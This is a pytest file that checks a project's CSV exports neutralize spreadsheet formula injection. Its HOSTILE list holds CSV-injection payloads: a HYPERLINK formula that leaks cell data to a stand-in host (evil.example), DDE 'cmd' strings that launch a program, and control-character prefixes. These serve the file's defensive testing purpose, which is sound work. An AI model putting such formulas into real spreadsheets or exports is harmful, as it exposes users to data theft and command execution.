"""CSV exports never carry a formula a spreadsheet would run (the OWASP rule)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from poolsync.allocation import build_pool_report
from poolsync.capacity.history import parse_history, to_csv
from poolsync.capacity.model import Snapshot
from poolsync.model import SeatClass
from poolsync.render.pool import pool_report_csv
from poolsync.spreadsheet import neutralize, restore
from tests.support.locations import location

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE[:4])
def test_formulas_are_neutralized_and_restored(text: str) -> None:
    safe = neutralize(text)
    assert safe == "'" + text
    assert restore(str(safe)) == text


def test_control_characters_are_shown_not_kept() -> None:
    assert neutralize("\t=1+1") == "\\x09=1+1"  # no longer a formula either
    assert neutralize("a\nb\x1b[2J") == "a\\x0ab\\x1b[2J"


def test_numbers_and_plain_text_are_left_alone() -> None:
    for value in (-3, 7, "-3", "+4", "-", "UNITY-A", "", "'quoted"):
        assert neutralize(value) == value


def test_pool_csv_cells_cannot_run() -> None:
    locs = [
        location(name, f"0000000{i}-0000-4000-8000-000000000000", f"oid-{i}")
        for i, name in enumerate(HOSTILE)
    ]
    report = build_pool_report("lab.example.com", locs, {})
    rows = list(csv.DictReader(io.StringIO(pool_report_csv(report))))
    names = {r["server"] for r in rows if r["server"]}
    assert names == {neutralize(name) for name in HOSTILE}
    assert all(not name.startswith(("=", "+", "-", "@")) for name in names)
    assert all(r["licensed"].lstrip("-").isdigit() for r in rows if r["licensed"])


def test_history_export_imports_back_unchanged() -> None:
    at = datetime(2026, 9, 1, tzinfo=UTC)
    rows = [
        Snapshot(at, "lab.example.com", name, SeatClass.VM, 10, 5, None) for name in HOSTILE[:4]
    ]
    text = to_csv(rows)
    assert "'=HYPERLINK" in text and "\n2026-09-01T00:00:00+00:00,lab.example.com,'+cmd" in text
    back = parse_history(text, path=Path("h.csv"))
    assert sorted(r.server for r in back) == sorted(HOSTILE[:4])
